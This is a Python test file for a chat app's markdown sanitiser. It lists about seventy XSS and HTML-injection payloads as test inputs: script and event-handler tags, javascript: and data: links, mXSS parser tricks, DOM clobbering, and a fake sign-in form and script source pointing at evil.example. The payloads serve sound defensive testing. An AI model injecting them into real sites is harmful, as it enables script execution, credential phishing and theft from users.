"""What an attacker writes: nothing but our own tags and addresses comes out."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from chat.text import Person, render
from chat.text.markdown import TooDeep, render_markdown
from chat.text.rendering import _MARKUP, _as_typed, sanitise

PEOPLE = {"ana": Person(1, "ana", "Ana")}
TAGS = {"p", "br", "strong", "em", "s", "code", "pre", "span", "blockquote", "ul", "ol", "li", "a", "hr"}
ATTRIBUTES = {"href", "rel", "class", "data-user", "tabindex", "start"}

# OWASP's filter evasion sheet, the mXSS of sanitisers past, and the ways around a scheme list.
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java&Tab;script&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](blob:https://example.com/x)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://x.org/"onmouseover=alert(1))',
    "[x](https://x.org/'onmouseover='alert(1))",
    '[x](https://x.org "title" onclick=alert(1))',
    '[x](https://x.org "\\"><img src=x onerror=alert(1)>")',
    "[<img src=x onerror=alert(1)>](https://x.org)",
    "![x](javascript:alert(1))",
    '![x](https://x.org/y.png"onerror="alert(1))',
    "[a]: javascript:alert(1)\n\n[a]",
    "[a][b]\n\n[b]: data:text/html,x",
    '```"><script>alert(1)</script>\nx\n```',
    '```python"onload=alert(1)\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "https://x.org/<script>alert(1)</script>",
    'https://x.org/"onclick=alert(1)',
    "www.x.org/'><svg onload=alert(1)>",
    "@ana<script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<tpircs>",
    "<a\u2028href=javascript:alert(1)>",
    "<plaintext><xmp><listing>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    # Parsers that disagree about where a foreign element, a comment or a raw text ends.
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<p id="--!><img src=x onerror=alert(1)>">',
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<table><svg><desc><td></desc><img src=x onerror=alert(1)></svg></table>",
    # What looks like the page's own: names that hide the document's, forms, layers over everything.
    "<form action=//evil.example><input name=querySelector><button>Sign in</button></form>",
    "<img name=getElementById><a id=composer></a><div id=boot>{}</div>",
    '<p style="position:fixed;inset:0;z-index:9" class="dialog message__actions" hidden>x</p>',
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example><embed src=//evil.example><video src=//evil.example autoplay>",
    '<span class="mention" data-user="1" data-me>@everyone</span>',
    '```"style="position:fixed\nx\n```',
    "[x](https://x.org/){style=position:fixed onclick=alert(1)}",
    '<a href="https://x.org" target=_self rel=opener ping=//evil.example download>x</a>',
]


class Judge(HTMLParser):
    """Collects what must not be there."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.wrong.append(f"{tag} {name}")
            if name == "href" and urlsplit(value or "").scheme not in ("http", "https", "mailto"):
                self.wrong.append(f"href {value}")
        if tag == "a" and "href" not in dict(attrs):
            self.wrong.append("a link that leads nowhere")

    def handle_comment(self, data: str) -> None:
        self.wrong.append("a comment")


MARKUP_PIECES = [
    *"*_~`[]()<>@#-+.!\\:/\"'&=| \n\t",
    *("**", "~~", "```", "```py\n", "](", "://", "http://", "https://a.example", "www.", "mailto:", "@ana"),
    *(
        "\n- ",
        "\n> ",
        "\n1. ",
        "\n\n",
        "javascript:",
        "<script>",
        "</p>",
        "<!--",
        "&#x3c;",
        "a",
        "é",
        "中",
        "م",
    ),
    *("\u0301", "\u200d", "👍", "\xa0", "\x00", "\u202e", "\u3000"),
]
MARKUP = st.lists(st.sampled_from(MARKUP_PIECES), max_size=40).map("".join)
# The same examples on every machine, however slow.
STEADY = settings(deadline=None, derandomize=True, max_examples=300)
TEXT = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=100)


def check_safe(source: str) -> None:
    html = render(source, people=PEOPLE).html
    assert Judge(html).wrong == []
    assert sanitise(html) == html


@pytest.mark.parametrize("source", VECTORS)
def test_a_vector_does_nothing(source: str) -> None:
    check_safe(source)
    check_safe(f"> - {source}")
    check_safe(f"**{source}** [{source}](https://x.org)")


@STEADY
@given(MARKUP | TEXT)
@example("http://a[")
@example("http://1.2.3.4.5/ http://a:99999/")
def test_nothing_but_our_own_html_comes_out(source: str) -> None:
    check_safe(source)


@STEADY
@given(MARKUP | TEXT)
def test_rendering_is_a_function_of_the_source_alone(source: str) -> None:
    assert render(source, people=PEOPLE) == render(source, people=PEOPLE)


@STEADY
@given(TEXT | MARKUP)
@example("a  \nb")
@example("\xa00")
@example(" a\xa0\n\u3000b \n \n\t c")
def test_plain_text_takes_a_short_way_to_the_same_html(source: str) -> None:
    rendered = render(source, people=PEOPLE)
    if not _MARKUP.search(source) and rendered.html:
        html, _ = render_markdown(_cleaned(source), people=PEOPLE)
        assert sanitise(html) == rendered.html


def test_lone_surrogates_never_reach_the_parser() -> None:
    with pytest.raises(ValueError):
        render("*\ud800*", people=PEOPLE)


def test_depth_is_refused_before_it_costs() -> None:
    with pytest.raises(TooDeep):
        render_markdown("> " * 40 + "x", people={})
    assert _as_typed("> x") == "<p>&gt; x</p>\n"


def test_A39_what_is_entangled_is_shown_as_typed_and_what_is_only_long_is_not() -> None:
    assert render("\n> ```py\n~~" * 500, people=PEOPLE).html.startswith("<p>&gt; ```py<br>\n~~<br>")
    deep = "".join(f"{'  ' * depth}- x\n" for depth in range(8))
    for text in (deep * 30, f"{'> ' * 17}x\n" * 200, "> a\nb\n\n" * 1000, f"{'>' * 17}x"):
        assert render(text, people=PEOPLE).html.startswith(("<ul>", "<blockquote>")), text[:20]


def _cleaned(source: str) -> str:
    from chat.text import clean_text

    return clean_text(source)
